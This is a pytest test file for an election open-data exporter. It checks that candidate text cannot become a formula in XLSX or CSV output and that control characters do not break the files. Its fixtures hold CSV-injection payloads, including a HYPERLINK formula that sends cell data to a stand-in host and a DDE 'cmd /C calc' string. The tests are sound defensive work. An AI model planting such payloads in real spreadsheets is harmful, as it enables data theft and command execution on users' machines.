"""Spreadsheets and CSV are safe: no text becomes a formula, no control character breaks a file."""

import json
import zipfile

import pytest
from openpyxl import load_workbook

from opendata import ine, publication
from opendata.publication import publish_open_data, read_manifest, write_open_data

from .factories_helpers import _all_text, _csv, _rows, published

pytestmark = pytest.mark.usefixtures("forget_renditions")


XLSX_NAMES = ("candidaturas.xlsx", "conoceles.xlsx")


LONG = " ".join(["Texto de relleno para alcanzar la extensión mínima del cuestionario."] * 6)


FORMULAS = {
    "motivation": '=HYPERLINK("https://malo.example/robo?d="&A1,"Ver más")' + LONG,
    "gender_proposal": "+SUM(1,2) " + LONG,
    "campaign_street": "-2+3",
    "campaign_neighborhood": "@SUM(A1:A9)",
}


CONTROL = "Línea uno\x0bLínea dos\x1fy\x08más\x0ctexto " + LONG


@pytest.mark.django_db
def test_csv_starts_with_a_utf8_bom_for_excel(native, tmp_path):
    write_open_data(tmp_path)
    raw = (tmp_path / "candidaturas.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw[3:].decode("utf-8").startswith("id,nombre,")
    assert "Vicente Vacío Cinco".encode() in raw


@pytest.fixture
def hostile(tree, offices):
    _page, actors = tree
    return published(
        actors["PAN"],
        offices["gubernatura"],
        title="=Nombre Con Igual",
        proposals=[("proposal", {"title": "@cmd|' /C calc'!A0", "description": LONG})] * 2,
        **FORMULAS,
    )


def _sheet_xml(path):
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


@pytest.mark.django_db
def test_no_candidate_text_becomes_a_formula_in_the_spreadsheets(hostile, tmp_path):
    """XLSX: the exact text, stored as a string cell with Excel's quote prefix (the apostrophe
    typed by hand), so it shows as text and stays text if edited; never a formula cell."""
    write_open_data(tmp_path)
    for name in XLSX_NAMES:
        path = tmp_path / name
        assert "<f>" not in _sheet_xml(path), name
        book = load_workbook(path)
        risky = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type in ("s", "n", "inlineStr"), (name, cell.coordinate)
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                        assert cell.quotePrefix, (name, cell.coordinate, cell.value)
                        risky.append(cell.value)
        assert FORMULAS["motivation"] in risky and "-2+3" not in risky  # address: one cell
    header, *rows = _rows(tmp_path / "conoceles.xlsx", ine.CANDIDATES_SHEET)
    row = dict(zip(header, rows[0], strict=True))
    assert row["MOTIVO_CARGO_PUBLICO"] == FORMULAS["motivation"]  # fidelity: not altered
    assert row["NOMBRE_CANDIDATO"] == "=NOMBRE CON IGUAL"
    assert row["PROPUESTA_1"].startswith("@cmd")


@pytest.mark.django_db
def test_csv_neutralizes_formula_triggers_and_json_keeps_the_text(hostile, tmp_path):
    """CSV has no cell types: a text starting with = + - @ (or tab / CR) gets a leading
    apostrophe, OWASP's mitigation; the JSON and Popolo files keep the exact text."""
    write_open_data(tmp_path)
    (row,) = _csv(tmp_path / "candidaturas.csv")
    assert row["motivo"] == "'" + FORMULAS["motivation"]
    assert row["propuesta_genero"] == "'" + FORMULAS["gender_proposal"]
    assert row["propuesta_1"].startswith("'@cmd")
    assert row["nombre"] == "'=Nombre Con Igual"
    assert row["domicilio_campana"].startswith("'-2+3")
    for key, value in row.items():
        assert not value or value[0] not in "=+-@\t\r", key
    assert row["edad"].isdigit() and row["id"].isdigit()  # numbers untouched
    (record,) = json.loads((tmp_path / "candidaturas.json").read_text())["candidaturas"]
    assert record["motivo"] == FORMULAS["motivation"]
    assert record["nombre"] == "=Nombre Con Igual"
    (person,) = json.loads((tmp_path / "popolo.json").read_text())["persons"]
    assert person["name"] == "=Nombre Con Igual"


@pytest.mark.django_db
def test_error_literals_stay_text_in_xlsx(tree, offices, tmp_path):
    _page, actors = tree
    published(actors["PAN"], offices["gubernatura"], campaign_street="#N/A")
    write_open_data(tmp_path)
    for name in XLSX_NAMES:
        for sheet in load_workbook(tmp_path / name).worksheets:
            assert all(c.data_type != "e" for row in sheet.iter_rows() for c in row), name


@pytest.mark.django_db
def test_control_characters_do_not_break_the_export(tree, offices, tmp_path):
    """XML 1.0 (XLSX) cannot hold most C0 controls: they are dropped there (a vertical tab or
    form feed, Word's manual breaks, becomes a line break); CSV and JSON keep the text."""
    _page, actors = tree
    published(
        actors["PAN"], offices["gubernatura"], motivation=CONTROL, campaign_street="Calle\x1e 5"
    )
    manifest = write_open_data(tmp_path)
    assert {entry["rows"] for entry in manifest["files"]} == {1}
    expected = CONTROL.replace("\x0b", "\n").replace("\x0c", "\n").replace("\x1f", "")
    expected = expected.replace("\x08", "")
    header, row = _rows(tmp_path / "conoceles.xlsx", ine.CANDIDATES_SHEET)
    assert dict(zip(header, row, strict=True))["MOTIVO_CARGO_PUBLICO"] == expected
    header, row = _rows(tmp_path / "candidaturas.xlsx", "candidaturas")
    record = dict(zip(header, row, strict=True))
    assert record["motivo"] == expected and record["domicilio_campana"].startswith("Calle 5")
    (record,) = json.loads((tmp_path / "candidaturas.json").read_text())["candidaturas"]
    assert record["motivo"] == CONTROL
    assert _csv(tmp_path / "candidaturas.csv")[0]["motivo"] == CONTROL


@pytest.mark.django_db
def test_a_bad_text_does_not_stop_a_withdrawal_from_reaching_the_files(
    tree, offices, settings, django_capture_on_commit_callbacks
):
    """The rebuild used to die on one illegal character, so every later regeneration failed and
    a withdrawn candidacy stayed in the public files."""
    _page, actors = tree
    withdrawn = published(actors["PRI"], offices["gubernatura"], title="Wendy Retirada Seis")
    publish_open_data()
    with django_capture_on_commit_callbacks(execute=True):
        published(actors["PAN"], offices["gubernatura"], motivation=CONTROL)
    with django_capture_on_commit_callbacks(execute=True):
        withdrawn.unpublish()
    assert withdrawn.title not in _all_text(publication.public_directory())
    assert read_manifest()["files"][0]["rows"] == 1
